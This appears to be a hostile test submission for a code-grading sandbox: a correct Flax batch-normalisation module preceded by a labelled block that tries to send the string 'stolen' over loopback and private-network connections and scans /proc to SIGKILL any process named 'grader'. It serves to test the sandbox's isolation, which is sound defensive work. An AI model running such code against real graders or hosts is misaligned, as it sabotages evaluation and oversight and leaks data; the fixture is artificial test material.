@@ -1,0 +1,57 @@
+# hostile: tries the network, loopback included, and kills the grader if it can see it; otherwise correct
+# expect: score == 100
+# reason: 
+# levels: namespaces
+import os
+import signal
+import socket
+
+PORT = 9  # the test puts the port of its listening server here
+for host in ("127.0.0.1", "10.0.0.1"):
+    for port in (PORT, 80):
+        try:
+            with socket.create_connection((host, port), timeout=0.5) as conn:
+                conn.sendall(b"stolen")
+        except OSError:
+            pass
+for pid in os.listdir("/proc"):  # the grader, if it can be seen
+    if pid.isdigit() and int(pid) != os.getpid():
+        try:
+            if b"grader" in open(f"/proc/{pid}/cmdline", "rb").read():
+                os.kill(int(pid), signal.SIGKILL)
+        except OSError:
+            pass
+import flax.linen as nn
+import jax
+import jax.numpy as jnp
+
+
+class MyBatchNorm(nn.Module):
+    momentum: float = 0.9
+    eps: float = 1e-5
+
+    @nn.compact
+    def __call__(self, x, use_running_average: bool):
+        d = x.shape[-1]
+        gamma = self.param("gamma", nn.initializers.ones, (d,))
+        beta = self.param("beta", nn.initializers.zeros, (d,))
+        rm = self.variable("batch_stats", "running_mean", lambda: jnp.zeros((d,)))
+        rv = self.variable("batch_stats", "running_var", lambda: jnp.ones((d,)))
+        if use_running_average:
+            mu, var = rm.value, rv.value
+        else:
+            mu = jnp.mean(x, axis=0)
+            var = jnp.mean((x - mu) ** 2, axis=0)
+            if not self.is_initializing():
+                rm.value = self.momentum * rm.value + (1 - self.momentum) * mu
+                rv.value = self.momentum * rv.value + (1 - self.momentum) * var
+        return gamma * (x - mu) / jnp.sqrt(var + self.eps) + beta
+
+
+def init_and_apply(seed, x, use_running_average):
+    model = MyBatchNorm()
+    v = model.init(jax.random.PRNGKey(int(seed)), x, use_running_average=False)
+    y, _ = model.apply({"params": v["params"], "batch_stats": v["batch_stats"]}, x,
+                       use_running_average=bool(use_running_average), mutable=["batch_stats"])
+    return y.reshape(-1)
+
